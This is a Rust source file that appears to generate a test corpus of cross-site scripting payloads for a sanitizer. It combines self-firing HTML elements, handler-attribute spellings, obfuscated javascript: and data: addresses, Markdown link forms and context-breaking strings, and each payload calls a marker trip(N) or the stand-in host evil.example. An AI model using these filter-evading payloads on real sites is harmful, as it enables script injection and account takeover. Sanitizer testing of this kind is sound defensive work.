//! Texts that run a script where a page lets one through, made from families: elements and events, ways to write an
//! address, ways out of a context, Markdown, markup that changes when it is parsed again.
//!
//! Each calls `trip(N)` with its own number, or asks `evil.example` for something.

/// Elements that fire an event by themselves: the element with its attributes, and the event.
const FIRING: [(&str, &str); 22] = [
    ("img src=x", "error"),
    ("img srcset=x", "error"),
    ("image src=x", "error"),
    ("svg", "load"),
    ("body", "load"),
    ("body", "pageshow"),
    ("video src=x", "error"),
    ("audio src=x", "error"),
    ("video><source src=x", "error"),
    ("iframe src=about:blank", "load"),
    ("object data=x", "error"),
    ("embed src=x", "load"),
    ("link rel=stylesheet href=x", "error"),
    ("style", "load"),
    ("script src=x", "error"),
    ("input type=image src=x", "error"),
    ("input autofocus", "focus"),
    ("button autofocus", "focus"),
    ("details open", "toggle"),
    ("marquee", "start"),
    ("div style=animation-name:x", "animationstart"),
    ("frameset", "load"),
];

/// Elements that wait for a person; the test touches every element of a page.
const WAITING: [(&str, &str); 16] = [
    ("a href=#", "click"),
    ("div", "mouseover"),
    ("p", "pointerover"),
    ("span tabindex=0", "focus"),
    ("b", "mouseenter"),
    ("td", "mousemove"),
    ("h2 id=x", "click"),
    ("code", "contextmenu"),
    ("summary", "click"),
    ("form", "submit"),
    ("select", "change"),
    ("textarea", "input"),
    ("math", "click"),
    ("custom-element", "wheel"),
    ("dialog open", "mousedown"),
    ("label", "dblclick"),
];

/// Ways to write an attribute that holds a handler: `EVENT` is the event, `CALL` the call, `NUMBER` its number.
const HANDLERS: [&str; 7] = [
    "<TAG onEVENT=CALL>", "<TAG onEVENT=\"CALL\">x</TAG>", "<TAG/onEVENT='CALL'>", "<TAG\tOnE\n=\nCALL >",
    "<TAG a=\"'>\" onEVENT=CALL//", "<TAG onEVENT=&#116;rip&lpar;NUMBER&rpar;>", "<TAG x=`y` onEVENT=\"CALL\" x='",
];

/// Ways to write an address that is a script.
const ADDRESSES: [&str; 22] = [
    "javascript:CALL",
    "JaVasCript:CALL",
    " javascript:CALL",
    "\u{1}javascript:CALL",
    "java\tscript:CALL",
    "java&#10;script:CALL",
    "javascript&colon;CALL",
    "&#x6a;avascript:CALL",
    "&#0000106;avascript&#0058;CALL",
    "java&Tab;script&NewLine;:CALL",
    "javascript://x/%0aCALL",
    "javascript:/*--></a>*/CALL",
    "javascript%3ACALL",
    "vbscript:CALL",
    "data:text/html,<script>parent.CALL</script>",
    "data:text/html;charset=utf-8,%3Cscript%3ECALL%3C/script%3E",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
    "data:image/png\"onerror=\"CALL",
    "//evil.example/CALL",
    "\\\\evil.example\\CALL",
    "https://evil.example/\" onmouseover=\"CALL",
    "https://evil.example/'onfocus='CALL' autofocus='",
];

/// Where an address may stand.
const LINKS: [&str; 8] = [
    "<a href=\"ADDRESS\">x</a>",
    "[x](ADDRESS)",
    "[x](<ADDRESS>)",
    "![x](<ADDRESS>)",
    "<ADDRESS>",
    "[x]: <ADDRESS> \"t\"\n\n[x] ![x][x]",
    "<img src=\"ADDRESS\">",
    "<svg><a xlink:href=\"ADDRESS\"><text y=9>x</text></a></svg>",
];

/// Ways out of a context, before markup that runs.
const BREAKS: [&str; 20] = [
    "\">", "'>", "`>", "\\\">", "&quot;>", "-->", "--!>", "]]>", "*/", "</title>", "</textarea>", "</style>",
    "</script>", "</noscript>", "</template>", "</svg>", "</code></pre>", "</td></tr></table>", "</summary></details>",
    "</select>",
];

/// What follows them.
const RUNNING: [&str; 3] = ["<script>CALL</script>", "<img src=x onerror=CALL>", "<svg/onload=CALL>"];

/// Whole texts that fit no table: markup that is other markup after another parse, things that load or lead away,
/// names that shadow the page's own, template languages, Markdown.
const WHOLE: &str = include_str!("../fixtures/payloads.json");

/// All of them; the place of a text is its number.
pub fn payloads() -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    for (at, (element, event)) in FIRING.iter().chain(&WAITING).enumerate() {
        let name = element.split([' ', '>']).next().unwrap_or_default();
        // Two ways to write each, so that every way is used several times.
        for way in [HANDLERS[at % HANDLERS.len()], HANDLERS[(at + 3) % HANDLERS.len()]] {
            let closed = way.replace("</TAG>", &format!("</{name}>"));
            texts.push(closed.replace("TAG", element).replace("EVENT", event));
        }
    }
    for (at, address) in ADDRESSES.iter().enumerate() {
        texts.extend((0..3).map(|step| LINKS[(at + step * 3) % LINKS.len()].replace("ADDRESS", address)));
    }
    for (at, way) in BREAKS.iter().enumerate() {
        texts.push(format!("{way}{}", RUNNING[at % 3]));
        texts.push(format!("x{way} {}", RUNNING[(at + 1) % 3]));
    }
    texts.extend(serde_json::from_str::<Vec<String>>(WHOLE).unwrap());
    let numbered =
        |(n, text): (usize, String)| text.replace("CALL", &format!("trip({n})")).replace("NUMBER", &n.to_string());
    texts.into_iter().enumerate().map(numbered).collect()
}

#[test]
fn there_are_enough_and_each_has_its_number() {
    let all = payloads();
    assert!(all.len() >= 200, "{}", all.len());
    for (n, text) in all.iter().enumerate() {
        let marked = text.contains(&format!("trip({n})")) || text.contains(&format!("rip&lpar;{n}&rpar;"));
        let asks = text.contains("evil.example") || text.contains("name=document");
        assert!(marked || asks, "{text}");
    }
    let different: std::collections::BTreeSet<&String> = all.iter().collect();
    assert_eq!(different.len(), all.len());
}
